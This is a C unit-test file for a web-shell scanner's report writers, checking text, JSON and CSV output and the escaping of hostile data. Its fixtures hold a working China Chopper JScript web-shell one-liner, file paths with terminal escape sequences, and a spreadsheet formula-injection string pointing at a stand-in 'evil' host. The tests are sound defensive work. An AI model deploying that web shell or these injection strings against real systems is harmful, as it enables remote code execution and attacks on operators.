/*
 * test_writer.c - the text, JSON Lines and CSV writers, fed hand-built
 * findings, warnings and stats and captured with open_memstream.  JSON lines
 * are checked by a small validating parser that also pulls out top-level
 * fields; text and CSV by exact expected output, including the verdict line
 * for each outcome (findings, clean, incomplete, nothing scanned).
 */
#include <locale.h>
#include <stdlib.h>
#include <string.h>

#include "report/writer.h"
#include "shellsift.h"
#include "test.h"

/* Library functions the writers call that live outside src/report/.  Weak,
 * so a build linking the real ones (libshellsift.a) still links. */
__attribute__((weak)) const char *ss_severity_name(ss_severity sev) {
  static const char *const names[] = {"low", "medium", "high", "critical"};
  return (unsigned)sev < 4 ? names[sev] : "low";
}

__attribute__((weak)) void ss_engine_counts(const ss_engine_t *e, size_t *rules, size_t *hash_iocs,
                                            size_t *name_iocs) {
  (void)e;
  *rules = 120, *hash_iocs = 1500, *name_iocs = 30;
}

static char fake_engine_storage;
#define FAKE_ENGINE ((const ss_engine_t *)(const void *)&fake_engine_storage)

/* ---- capture ---- */

typedef struct {
  FILE *out, *err;
  char *obuf, *ebuf;
  size_t olen, elen;
  ss_writer_t *w;
} capture;

static void cap_open(capture *c, ss_format format, unsigned flags) {
  memset(c, 0, sizeof *c);
  c->out = open_memstream(&c->obuf, &c->olen);
  c->err = open_memstream(&c->ebuf, &c->elen);
  CHECK(ss_writer_new(format, c->out, c->err, flags, &c->w) == SS_OK);
}

/* Frees the writer and closes the streams; obuf/ebuf then hold all output. */
static void cap_close(capture *c) {
  ss_writer_free(c->w);
  fclose(c->out);
  fclose(c->err);
}

static void cap_free(capture *c) {
  free(c->obuf);
  free(c->ebuf);
}

static void send_finding(ss_writer_t *w, const ss_finding *f) {
  ss_event ev = {.type = SS_EVENT_FINDING, .finding = f};
  ss_writer_event(w, &ev);
}

static void send_warning(ss_writer_t *w, const ss_warning *wa) {
  ss_event ev = {.type = SS_EVENT_WARNING, .warning = wa};
  ss_writer_event(w, &ev);
}

/* ---- fixtures ---- */

static const ss_reason chopper_reasons[] = {
    {"shellsift.chopper_jscript", "webshell", "China Chopper JScript eval",
     "https://www.microsoft.com/security/blog/2021/03/02/hafnium/", 90},
    {"shellsift.eval_request", "webshell", "", "", 50},
};

static const unsigned char long_data[] =
    "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"x\"],\"unsafe\");%>\x1b[2J"
    "0123456789012345678901234567890123456789";

static const ss_excerpt chopper_excerpts[] = {
    {57, "shellsift.chopper_jscript", "$eval", long_data, sizeof long_data - 1},
    {3, "shellsift.chopper_jscript", "$page", (const unsigned char *)"Page\xff\xfe", 6},
    {70, "shellsift.eval_request", "$req", (const unsigned char *)"Request.Item", 12},
    {90, "shellsift.eval_request", "$x", (const unsigned char *)"x", 1},
};

static ss_finding chopper(void) {
  ss_finding f = {
      .path = "/srv/exchange/owa/auth/errorEE.aspx",
      .size = 1234,
      .mtime = 1614657906, /* 2021-03-02T04:05:06Z */
      .ctime = 1614657907,
      .btime = -1,
      .inode = 42,
      .mode = 0100644,
      .sha256 = "b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0",
      .md5 = "",
      .sha1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709",
      .category = "webshell",
      .severity = SS_SEV_CRITICAL,
      .score = 95,
      .reasons = chopper_reasons,
      .nreasons = 2,
      .excerpts = chopper_excerpts,
      .nexcerpts = 4,
      .content_scanned = 1,
  };
  return f;
}

static const ss_reason hash_reason[] = {{"ioc.hash.hafnium", "ioc-hash", "Known HAFNIUM web shell", "", 80}};

/* A small finding for exact-output tests. */
static ss_finding small(void) {
  ss_finding f = {
      .path = "/srv/a.aspx",
      .size = 5,
      .mtime = 0,
      .ctime = 0,
      .btime = 86400,
      .sha256 = "aa",
      .md5 = "bb",
      .sha1 = "",
      .category = "ioc-hash",
      .severity = SS_SEV_HIGH,
      .score = 80,
      .reasons = hash_reason,
      .nreasons = 1,
      .excerpts = NULL,
      .nexcerpts = 0,
      .content_scanned = 0,
  };
  return f;
}

static ss_stats stats_base(void) {
  ss_stats s = {.files = 1234, .dirs = 56, .bytes = 12345678, .content_scanned = 1100, .hashed = 1234,
                .seconds = 2.5};
  return s;
}

/* ---- a small validating JSON parser ---- */

typedef struct {
  const char *p;
  const char *want;        /* top-level key to capture */
  const char *val;         /* its raw value */
  size_t vlen;
} jparse;

static int j_value(jparse *j, int depth);

static void j_ws(jparse *j) {
  while (*j->p == ' ' || *j->p == '\t' || *j->p == '\n' || *j->p == '\r') j->p++;
}

static int j_string(jparse *j) {
  if (*j->p++ != '"') return 0;
  for (;;) {
    unsigned char c = (unsigned char)*j->p++;
    if (c == '"') return 1;
    if (c < 0x20) return 0; /* includes the terminating NUL */
    if (c != '\\') continue;
    c = (unsigned char)*j->p++;
    if (c == 'u') {
      for (int k = 0; k < 4; k++)
        if (!strchr("0123456789abcdefABCDEF", *j->p) || !*j->p++) return 0;
    } else if (!c || !strchr("\"\\/bfnrt", c)) {
      return 0;
    }
  }
}

static int j_number(jparse *j) {
  const char *start = j->p;
  if (*j->p == '-') j->p++;
  if (*j->p == '0') j->p++;
  else if (*j->p >= '1' && *j->p <= '9') while (*j->p >= '0' && *j->p <= '9') j->p++;
  else return 0;
  if (*j->p == '.') {
    if (!(*++j->p >= '0' && *j->p <= '9')) return 0;
    while (*j->p >= '0' && *j->p <= '9') j->p++;
  }
  return j->p > start;
}

static int j_object(jparse *j, int depth) {
  j->p++;
  j_ws(j);
  if (*j->p == '}') return j->p++, 1;
  for (;;) {
    j_ws(j);
    const char *key = j->p + 1;
    if (!j_string(j)) return 0;
    size_t klen = (size_t)(j->p - 1 - key);
    j_ws(j);
    if (*j->p++ != ':') return 0;
    j_ws(j);
    const char *val = j->p;
    if (!j_value(j, depth + 1)) return 0;
    if (depth == 0 && j->want && strlen(j->want) == klen && strncmp(key, j->want, klen) == 0) {
      if (j->val) return 0; /* duplicate key */
      j->val = val, j->vlen = (size_t)(j->p - val);
    }
    j_ws(j);
    if (*j->p == '}') return j->p++, 1;
    if (*j->p++ != ',') return 0;
  }
}

static int j_array(jparse *j, int depth) {
  j->p++;
  j_ws(j);
  if (*j->p == ']') return j->p++, 1;
  for (;;) {
    j_ws(j);
    if (!j_value(j, depth + 1)) return 0;
    j_ws(j);
    if (*j->p == ']') return j->p++, 1;
    if (*j->p++ != ',') return 0;
  }
}

static int j_value(jparse *j, int depth) {
  switch (*j->p) {
  case '{': return j_object(j, depth);
  case '[': return j_array(j, depth);
  case '"': return j_string(j);
  case 't': return strncmp(j->p, "true", 4) == 0 ? (j->p += 4, 1) : 0;
  case 'f': return strncmp(j->p, "false", 5) == 0 ? (j->p += 5, 1) : 0;
  case 'n': return strncmp(j->p, "null", 4) == 0 ? (j->p += 4, 1) : 0;
  default: return j_number(j);
  }
}

/* 1 if line is exactly one JSON object followed by "\n". */
static int json_line_ok(const char *line, size_t len) {
  jparse j = {.p = line};
  if (len == 0 || line[len - 1] != '\n' || memchr(line, '\n', len) != line + len - 1) return 0;
  return *line == '{' && j_value(&j, 0) && j.p == line + len - 1;
}

/* The raw JSON text of a top-level field of the object in line (allocated),
 * or NULL if the line is not valid or the key is absent. */
static char *jfield(const char *line, const char *key) {
  jparse j = {.p = line, .want = key};
  if (*line != '{' || !j_value(&j, 0) || !j.val) return NULL;
  return xstrndup(j.val, j.vlen);
}

static void check_field(const char *line, const char *key, const char *want, int lineno) {
  char *got = jfield(line, key);
  if (!got || strcmp(got, want) != 0) {
    t_check_failures++;
    fprintf(stderr, "%s:%d: field %s is %s, want %s\n", __FILE__, lineno, key, got ? got : "(absent)", want);
  }
  free(got);
}

#define FIELD(line, key, want) check_field(line, key, want, __LINE__)
#define NO_FIELD(line, key)                     \
  do {                                          \
    char *v_ = jfield(line, key);               \
    CHECK(v_ == NULL);                          \
    free(v_);                                   \
  } while (0)

#define STARTS(s, lit) (strncmp((s), lit, sizeof(lit) - 1) == 0)

/* Splits buf into lines in place; returns how many (at most max). */
static size_t split_lines(char *buf, char **lines, size_t max) {
  size_t n = 0;
  for (char *p = buf; p && *p && n < max; n++) {
    lines[n] = p;
    char *nl = strchr(p, '\n');
    p = nl ? nl + 1 : NULL;
  }
  return n;
}

/* No byte that could drive a terminal: nothing below 0x20 but '\n'. */
static int no_controls(const char *s) {
  for (; *s; s++)
    if (((unsigned char)*s < 0x20 && *s != '\n') || *s == 0x7F) return 0;
  return 1;
}

/* ---- JSON ---- */

static void test_json_small_exact(void) {
  capture c;
  ss_finding f = small();
  cap_open(&c, SS_FORMAT_JSON, 0);
  send_finding(c.w, &f);
  cap_close(&c);
  CHECK_STREQ(c.obuf,
              "{\"event\":\"finding\",\"schema\":1,\"path\":\"/srv/a.aspx\",\"size\":5,"
              "\"mtime\":\"1970-01-01T00:00:00Z\",\"ctime\":\"1970-01-01T00:00:00Z\","
              "\"btime\":\"1970-01-02T00:00:00Z\",\"sha256\":\"aa\",\"md5\":\"bb\","
              "\"category\":\"ioc-hash\",\"severity\":\"high\",\"score\":80,"
              "\"rules\":[\"ioc.hash.hafnium\"],\"reason\":\"Known HAFNIUM web shell\","
              "\"reasons\":[{\"rule\":\"ioc.hash.hafnium\",\"category\":\"ioc-hash\",\"score\":80,"
              "\"description\":\"Known HAFNIUM web shell\",\"reference\":\"\"}],"
              "\"excerpts\":[],\"content_scanned\":false}\n");
  CHECK(json_line_ok(c.obuf, c.olen));
  CHECK(c.elen == 0);
  cap_free(&c);
}

static void test_json_finding_fields(void) {
  capture c;
  ss_finding f = chopper();
  cap_open(&c, SS_FORMAT_JSON, 0);
  send_finding(c.w, &f);
  cap_close(&c);
  const char *l = c.obuf;
  CHECK(json_line_ok(l, c.olen));
  CHECK(no_controls(l));
  FIELD(l, "event", "\"finding\"");
  FIELD(l, "schema", "1");
  FIELD(l, "path", "\"/srv/exchange/owa/auth/errorEE.aspx\"");
  NO_FIELD(l, "path_base64");
  FIELD(l, "size", "1234");
  FIELD(l, "mtime", "\"2021-03-02T04:05:06Z\"");
  FIELD(l, "ctime", "\"2021-03-02T04:05:07Z\"");
  FIELD(l, "btime", "null");
  FIELD(l, "sha256", "\"b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0\"");
  NO_FIELD(l, "md5");
  FIELD(l, "sha1", "\"da39a3ee5e6b4b0d3255bfef95601890afd80709\"");
  FIELD(l, "category", "\"webshell\"");
  FIELD(l, "severity", "\"critical\"");
  FIELD(l, "score", "95");
  FIELD(l, "rules", "[\"shellsift.chopper_jscript\",\"shellsift.eval_request\"]");
  FIELD(l, "reason", "\"China Chopper JScript eval\"");
  FIELD(l, "content_scanned", "true");
  char *x = jfield(l, "excerpts");
  CHECK(x && strstr(x, "{\"offset\":57,\"rule\":\"shellsift.chopper_jscript\",\"string\":\"$eval\",\"data\":"
                       "\"<%@ Page Language=\\\"Jscript\\\"%>"));
  CHECK(x && strstr(x, "\\u001b[2J0123"));            /* ESC escaped, nothing truncated */
  CHECK(x && strstr(x, "\"data\":\"Page\xef\xbf\xbd\xef\xbf\xbd\",\"data_base64\":\"UGFnZf/+\""));
  CHECK(x && strstr(x, "\"string\":\"$x\",\"data\":\"x\"}]")); /* all four excerpts */
  free(x);
  x = jfield(l, "reasons");
  CHECK(x && strstr(x, "{\"rule\":\"shellsift.eval_request\",\"category\":\"webshell\",\"score\":50,"
                       "\"description\":\"\",\"reference\":\"\"}"));
  free(x);
  cap_free(&c);
}

static void test_json_hostile_path(void) {
  capture c;
  ss_finding f = small();
  f.path = "/srv/\x1b]0;pwned\x07\xff\xe2\x80\xae" "xpsa.txt";
  f.mtime = INT64_MAX; /* attacker-set, not representable */
  cap_open(&c, SS_FORMAT_JSON, 0);
  send_finding(c.w, &f);
  cap_close(&c);
  CHECK(json_line_ok(c.obuf, c.olen));
  CHECK(no_controls(c.obuf));
  FIELD(c.obuf, "path", "\"/srv/\\u001b]0;pwned\\u0007\xef\xbf\xbd\\u202expsa.txt\"");
  FIELD(c.obuf, "path_base64", "\"L3Nydi8bXTA7cHduZWQH/+KArnhwc2EudHh0\"");
  FIELD(c.obuf, "mtime", "null");
  cap_free(&c);
}

static void test_json_warning(void) {
  capture c;
  ss_warning w1 = {SS_WARN_UNREADABLE, "unreadable", "/srv/locked\n.aspx", "Permission denied", 1};
  ss_warning w2 = {SS_WARN_RULES, "rules", NULL, "bad.yar: syntax error", 0};
  cap_open(&c, SS_FORMAT_JSON, 0);
  send_warning(c.w, &w1);
  send_warning(c.w, &w2);
  cap_close(&c);
  char *lines[4];
  CHECK(split_lines(c.obuf, lines, 4) == 2);
  CHECK_STREQ(lines[0], "{\"event\":\"warning\",\"schema\":1,\"kind\":\"unreadable\","
                        "\"path\":\"/srv/locked\\n.aspx\",\"message\":\"Permission denied\","
                        "\"incomplete\":true}\n"
                        "{\"event\":\"warning\",\"schema\":1,\"kind\":\"rules\",\"path\":null,"
                        "\"message\":\"bad.yar: syntax error\",\"incomplete\":false}\n");
  CHECK(c.elen == 0); /* JSON mode keeps everything on one stream */
  cap_free(&c);
}

static void test_json_summary(void) {
  capture c;
  ss_stats s = stats_base();
  s.findings = 2, s.by_severity[SS_SEV_CRITICAL] = 1, s.by_severity[SS_SEV_HIGH] = 1;
  s.warnings = 4, s.incomplete = 3, s.excluded = 7, s.too_large = 1, s.seconds = 1.5;
  const char *roots[] = {"/srv/exchange", "/srv/\"odd\""};
  cap_open(&c, SS_FORMAT_JSON, 0);
  ss_writer_summary(c.w, FAKE_ENGINE, roots, 2, &s);
  cap_close(&c);
  const char *l = c.obuf;
  CHECK(json_line_ok(l, c.olen));
  FIELD(l, "event", "\"summary\"");
  FIELD(l, "schema", "1");
  FIELD(l, "version", "\"" SS_VERSION "\"");
  FIELD(l, "roots", "[\"/srv/exchange\",\"/srv/\\\"odd\\\"\"]");
  FIELD(l, "files", "1234");
  FIELD(l, "dirs", "56");
  FIELD(l, "bytes", "12345678");
  FIELD(l, "content_scanned", "1100");
  FIELD(l, "hashed", "1234");
  FIELD(l, "excluded", "7");
  FIELD(l, "special", "0");
  FIELD(l, "symlinks", "0");
  FIELD(l, "too_large", "1");
  FIELD(l, "findings", "2");
  FIELD(l, "critical", "1");
  FIELD(l, "high", "1");
  FIELD(l, "medium", "0");
  FIELD(l, "low", "0");
  FIELD(l, "warnings", "4");
  FIELD(l, "errors", "3");
  FIELD(l, "complete", "false");
  FIELD(l, "seconds", "1.500");
  FIELD(l, "rules", "120");
  FIELD(l, "hash_iocs", "1500");
  FIELD(l, "name_iocs", "30");
  cap_free(&c);

  s = stats_base();
  cap_open(&c, SS_FORMAT_JSON, 0);
  ss_writer_summary(c.w, NULL, NULL, 0, &s);
  cap_close(&c);
  CHECK(json_line_ok(c.obuf, c.olen));
  FIELD(c.obuf, "complete", "true");
  FIELD(c.obuf, "roots", "[]");
  FIELD(c.obuf, "rules", "null");
  FIELD(c.obuf, "seconds", "2.500");
  cap_free(&c);
}

/* A rule-file warning comes from ss_engine_new, so ss_scan's stats never
 * count it; the summary must not call the run complete. */
static void test_json_counts_what_it_saw(void) {
  capture c;
  ss_warning w = {SS_WARN_RULES, "rules", "custom.yar", "syntax error", 1};
  ss_finding f = small();
  ss_stats s = stats_base();
  cap_open(&c, SS_FORMAT_JSON, 0);
  send_warning(c.w, &w);
  send_finding(c.w, &f);
  ss_writer_summary(c.w, FAKE_ENGINE, NULL, 0, &s);
  cap_close(&c);
  char *lines[4];
  CHECK(split_lines(c.obuf, lines, 4) == 3);
  FIELD(lines[2], "findings", "1");
  FIELD(lines[2], "high", "1");
  FIELD(lines[2], "warnings", "1");
  FIELD(lines[2], "errors", "1");
  FIELD(lines[2], "complete", "false");
  cap_free(&c);
}

static void test_json_quiet(void) {
  capture c;
  ss_warning w = {SS_WARN_UNREADABLE, "unreadable", "/x", "Permission denied", 1};
  ss_finding f = small();
  ss_stats s = stats_base();
  cap_open(&c, SS_FORMAT_JSON, SS_WRITER_QUIET);
  send_warning(c.w, &w);
  send_finding(c.w, &f);
  ss_writer_summary(c.w, FAKE_ENGINE, NULL, 0, &s);
  cap_close(&c);
  char *lines[4];
  CHECK(split_lines(c.obuf, lines, 4) == 1);
  FIELD(lines[0], "event", "\"finding\"");
  CHECK(c.elen == 0);
  cap_free(&c);
}

/* ---- CSV ---- */

static void test_csv(void) {
  static const ss_reason formula[] = {
      {"user.rule", "webshell", "=HYPERLINK(\"http://evil/\",\"x\")", "", 60},
      {"user.rule2", "webshell", "second", "", 40},
  };
  capture c;
  ss_finding f = small();
  f.path = "/srv/a,\"b\"\r\n.aspx";
  f.category = "webshell";
  f.severity = SS_SEV_MEDIUM;
  f.score = 65;
  f.reasons = formula;
  f.nreasons = 2;
  ss_warning w = {SS_WARN_UNREADABLE, "unreadable", "/srv/x", "Permission denied", 1};
  ss_stats s = stats_base();
  s.incomplete = 1, s.warnings = 1;
  cap_open(&c, SS_FORMAT_CSV, 0);
  send_finding(c.w, &f);
  send_warning(c.w, &w);
  ss_writer_summary(c.w, FAKE_ENGINE, NULL, 0, &s);
  cap_close(&c);
  CHECK_STREQ(c.obuf, "path,size,mtime,sha256,category,severity,score,rules,reason\r\n"
                      "\"/srv/a,\"\"b\"\"\\x0D\\x0A.aspx\",5,\"1970-01-01T00:00:00Z\",\"aa\","
                      "\"webshell\",\"medium\",65,\"user.rule|user.rule2\","
                      "\"'=HYPERLINK(\"\"http://evil/\"\",\"\"x\"\")\"\r\n");
  CHECK(STARTS(c.ebuf, "warning: unreadable: /srv/x: Permission denied\n"));
  CHECK(strstr(c.ebuf, "Result: 1 finding (1 medium), and the scan is INCOMPLETE: 1 item could not be "
                       "scanned (see warnings). Exit status 1.\n") != NULL);
  cap_free(&c);

  /* no findings: still a header; quiet: nothing on err */
  cap_open(&c, SS_FORMAT_CSV, SS_WRITER_QUIET);
  send_warning(c.w, &w);
  ss_writer_summary(c.w, FAKE_ENGINE, NULL, 0, &s);
  cap_close(&c);
  CHECK_STREQ(c.obuf, "path,size,mtime,sha256,category,severity,score,rules,reason\r\n");
  CHECK(c.elen == 0);
  cap_free(&c);
}

/* ---- text ---- */

static void test_text_finding_exact(void) {
  capture c;
  ss_finding f = chopper();
  f.path = "/srv/owa/\x1b[31mred\\x.aspx";
  cap_open(&c, SS_FORMAT_TEXT, 0);
  send_finding(c.w, &f);
  cap_close(&c);
  CHECK_STREQ(c.obuf,
              "CRITICAL /srv/owa/\\x1B[31mred\\\\x.aspx\n"
              "  webshell, score 95\n"
              "  shellsift.chopper_jscript (90): China Chopper JScript eval\n"
              "  shellsift.eval_request (50)\n"
              "  size 1,234 bytes, modified 2021-03-02T04:05:06Z, sha256 "
              "b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0\n"
              "  @57 $eval: <%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"x\"],\"unsafe\");%>\\x1B[2J0123456..."
              "\n"
              "  @3 $page: Page\\xFF\\xFE\n"
              "  @70 $req: Request.Item\n"
              "  (1 more matches)\n"
              "\n");
  CHECK(no_controls(c.obuf));
  CHECK(c.elen == 0);
  cap_free(&c);

  f = small();
  cap_open(&c, SS_FORMAT_TEXT, 0);
  send_finding(c.w, &f);
  cap_close(&c);
  CHECK_STREQ(c.obuf, "HIGH     /srv/a.aspx\n"
                      "  ioc-hash, score 80 (content not scanned: hash and name checks only)\n"
                      "  ioc.hash.hafnium (80): Known HAFNIUM web shell\n"
                      "  size 5 bytes, modified 1970-01-01T00:00:00Z, sha256 aa\n"
                      "\n");
  cap_free(&c);
}

/* With colour, the only escape sequences are the writer's own. */
static void test_text_color(void) {
  capture c;
  ss_finding f = small();
  f.path = "/srv/\x1b[2Jx";
  cap_open(&c, SS_FORMAT_TEXT, SS_WRITER_COLOR);
  send_finding(c.w, &f);
  cap_close(&c);
  CHECK(STARTS(c.obuf, "\x1b[31mHIGH\x1b[0m     \x1b[1m/srv/\\x1B[2Jx\x1b[0m\n"));
  size_t esc = 0;
  for (const char *p = c.obuf; (p = strchr(p, '\x1b')); p++) esc++;
  CHECK(esc == 4);
  cap_free(&c);

  f.severity = SS_SEV_MEDIUM;
  cap_open(&c, SS_FORMAT_TEXT, SS_WRITER_COLOR);
  send_finding(c.w, &f);
  cap_close(&c);
  CHECK(STARTS(c.obuf, "\x1b[33mMEDIUM\x1b[0m"));
  cap_free(&c);
}

static void test_text_warning(void) {
  capture c;
  ss_warning w1 = {SS_WARN_UNREADABLE, "unreadable", "/srv/\x1b]0;x\x07\n.aspx", "Permission denied", 1};
  ss_warning w2 = {SS_WARN_IOC, "ioc", NULL, "hash-iocs.txt:3: bad hash", 0};
  cap_open(&c, SS_FORMAT_TEXT, 0);
  send_warning(c.w, &w1);
  send_warning(c.w, &w2);
  cap_close(&c);
  CHECK_STREQ(c.ebuf, "warning: unreadable: /srv/\\x1B]0;x\\x07\\n.aspx: Permission denied\n"
                      "warning: ioc: hash-iocs.txt:3: bad hash\n");
  CHECK(c.olen == 0);
  cap_free(&c);
}

/* The summary's last line, from a text writer that saw nothing else. */
static char *verdict_for(const ss_stats *s) {
  capture c;
  cap_open(&c, SS_FORMAT_TEXT, 0);
  ss_writer_summary(c.w, FAKE_ENGINE, NULL, 0, s);
  cap_close(&c);
  char *last = c.ebuf, *p = c.ebuf;
  while ((p = strstr(p, "\nResult: "))) last = ++p;
  char *v = xstrdup(last);
  cap_free(&c);
  return v;
}

static void test_text_verdicts(void) {
  ss_stats s = stats_base();
  char *v = verdict_for(&s);
  CHECK_STREQ(v, "Result: no findings in 1,234 files. Exit status 0.\n");
  free(v);

  s.findings = 2, s.by_severity[SS_SEV_CRITICAL] = 1, s.by_severity[SS_SEV_HIGH] = 1;
  v = verdict_for(&s);
  CHECK_STREQ(v, "Result: 2 findings (1 critical, 1 high). Exit status 1.\n");
  free(v);

  s = stats_base();
  s.warnings = 5, s.incomplete = 3;
  v = verdict_for(&s);
  CHECK_STREQ(v, "Result: no findings, but the scan is INCOMPLETE: 3 items could not be scanned "
                 "(see warnings). Exit status 2.\n");
  free(v);

  s.findings = 1, s.by_severity[SS_SEV_LOW] = 1;
  v = verdict_for(&s);
  CHECK_STREQ(v, "Result: 1 finding (1 low), and the scan is INCOMPLETE: 3 items could not be scanned "
                 "(see warnings). Exit status 1.\n");
  free(v);

  ss_stats empty = {0};
  v = verdict_for(&empty);
  CHECK_STREQ(v, "Result: no findings, but NO files were scanned: check the path. Exit status 0.\n");
  free(v);
  v = verdict_for(NULL);
  CHECK_STREQ(v, "Result: no findings, but NO files were scanned: check the path. Exit status 0.\n");
  free(v);
}

static void test_text_summary_exact(void) {
  capture c;
  ss_stats s = stats_base();
  s.excluded = 3, s.symlinks = 1, s.too_large = 2, s.warnings = 4, s.incomplete = 1;
  const char *roots[] = {"/srv/exchange", "/srv/\x1b[2J"};
  ss_warning w = {SS_WARN_UNREADABLE, "unreadable", "/srv/exchange/x", "Permission denied", 1};
  cap_open(&c, SS_FORMAT_TEXT, 0);
  send_warning(c.w, &w);
  ss_writer_summary(c.w, FAKE_ENGINE, roots, 2, &s);
  cap_close(&c);
  CHECK_STREQ(c.ebuf,
              "warning: unreadable: /srv/exchange/x: Permission denied\n"
              "Scanned /srv/exchange, /srv/\\x1B[2J: 1,234 files in 56 directories (12.3 MB) in 2.5 s, "
              "493 files/s; content rules ran on 1,100.\n"
              "Rules: 120 YARA rules, 1,500 hash IOCs, 30 file-name IOCs.\n"
              "Skipped: 3 excluded, 1 symlink not followed, 2 files too large for content rules.\n"
              "Warnings: 4 (1 kept something from being scanned).\n"
              "Result: no findings, but the scan is INCOMPLETE: 1 item could not be scanned (see warnings). "
              "Exit status 2.\n");
  CHECK(c.olen == 0);
  cap_free(&c);

  /* quiet: findings only */
  cap_open(&c, SS_FORMAT_TEXT, SS_WRITER_QUIET);
  send_warning(c.w, &w);
  ss_writer_summary(c.w, FAKE_ENGINE, roots, 2, &s);
  cap_close(&c);
  CHECK(c.elen == 0 && c.olen == 0);
  cap_free(&c);
}

/* Non-ASCII passes to a UTF-8 terminal only; under the C locale it is
 * escaped, since the terminal's character set is unknown. */
static void test_text_locale(void) {
  capture c;
  ss_finding f = small();
  f.path = "/srv/caf\xc3\xa9.aspx";
  setlocale(LC_CTYPE, "C");
  cap_open(&c, SS_FORMAT_TEXT, 0);
  send_finding(c.w, &f);
  cap_close(&c);
  CHECK(STARTS(c.obuf, "HIGH     /srv/caf\\u{00E9}.aspx\n"));
  cap_free(&c);
  if (setlocale(LC_CTYPE, "C.UTF-8") || setlocale(LC_CTYPE, "en_US.UTF-8")) {
    cap_open(&c, SS_FORMAT_TEXT, 0);
    send_finding(c.w, &f);
    cap_close(&c);
    CHECK(STARTS(c.obuf, "HIGH     /srv/caf\xc3\xa9.aspx\n"));
    cap_free(&c);
    setlocale(LC_CTYPE, "C");
  } else {
    fprintf(stderr, "note: no UTF-8 locale; UTF-8 pass-through not tested\n");
  }
}

/* ---- shared pieces ---- */

static void test_new_args(void) {
  ss_writer_t *w = (ss_writer_t *)&fake_engine_storage;
  CHECK(ss_writer_new(SS_FORMAT_TEXT, NULL, stderr, 0, &w) == SS_ERR_ARG && w == NULL);
  w = (ss_writer_t *)&fake_engine_storage;
  CHECK(ss_writer_new((ss_format)7, stdout, stderr, 0, &w) == SS_ERR_ARG && w == NULL);
  CHECK(ss_writer_new(SS_FORMAT_JSON, stdout, stderr, 8u, &w) == SS_ERR_ARG && w == NULL);
  CHECK(ss_writer_new(SS_FORMAT_JSON, stdout, stderr, 0, NULL) == SS_ERR_ARG);
  ss_writer_free(NULL);
  ss_writer_event(NULL, NULL);
}

static void test_progress_ignored(void) {
  capture c;
  ss_stats s = stats_base();
  ss_event ev = {.type = SS_EVENT_PROGRESS, .progress = &s};
  cap_open(&c, SS_FORMAT_JSON, 0);
  ss_writer_event(c.w, &ev);
  cap_close(&c);
  CHECK(c.olen == 0 && c.elen == 0);
  cap_free(&c);
}

static void test_rfc3339(void) {
  char b[RFC3339_SIZE];
  CHECK(report_rfc3339(b, 0) && strcmp(b, "1970-01-01T00:00:00Z") == 0);
  CHECK(report_rfc3339(b, -1) && strcmp(b, "1969-12-31T23:59:59Z") == 0);
  CHECK(report_rfc3339(b, 1614657906) && strcmp(b, "2021-03-02T04:05:06Z") == 0);
  CHECK(report_rfc3339(b, 253402300799LL) && strcmp(b, "9999-12-31T23:59:59Z") == 0);
  CHECK(report_rfc3339(b, -62167219200LL) && strcmp(b, "0000-01-01T00:00:00Z") == 0);
  CHECK(!report_rfc3339(b, 253402300800LL) && b[0] == '\0');
  CHECK(!report_rfc3339(b, -62167219201LL) && b[0] == '\0');
  CHECK(!report_rfc3339(b, INT64_MIN) && !report_rfc3339(b, INT64_MAX));
}

/* The headline reason explains the category, even when a reason from
 * another category scores higher. */
static void test_top_reason(void) {
  static const ss_reason r[] = {
      {"webshell.a", "webshell", "a shell", "", 95},
      {"disguise.b", "disguised-script", "", "", 60},
      {"disguise.c", "disguised-script", "ASP code in a .jpg", "", 70},
  };
  ss_finding f = small();
  f.reasons = r, f.nreasons = 3, f.category = "disguised-script";
  CHECK(report_top_reason(&f) == &r[2]);
  CHECK_STREQ(report_reason_text(&f), "ASP code in a .jpg");
  f.category = "webshell";
  CHECK(report_top_reason(&f) == &r[0]);
  f.category = "other";
  CHECK(report_top_reason(&f) == &r[0]);
  f.nreasons = 0;
  CHECK(report_top_reason(&f) == NULL);
  CHECK_STREQ(report_reason_text(&f), "other");
  f.reasons = &r[1], f.nreasons = 1, f.category = "disguised-script";
  CHECK_STREQ(report_reason_text(&f), "disguise.b"); /* no description: the rule id */
}

int main(void) {
  RUN(test_json_small_exact);
  RUN(test_json_finding_fields);
  RUN(test_json_hostile_path);
  RUN(test_json_warning);
  RUN(test_json_summary);
  RUN(test_json_counts_what_it_saw);
  RUN(test_json_quiet);
  RUN(test_csv);
  RUN(test_text_finding_exact);
  RUN(test_text_color);
  RUN(test_text_warning);
  RUN(test_text_verdicts);
  RUN(test_text_summary_exact);
  RUN(test_text_locale);
  RUN(test_new_args);
  RUN(test_progress_ignored);
  RUN(test_rfc3339);
  RUN(test_top_reason);
  TEST_END();
}
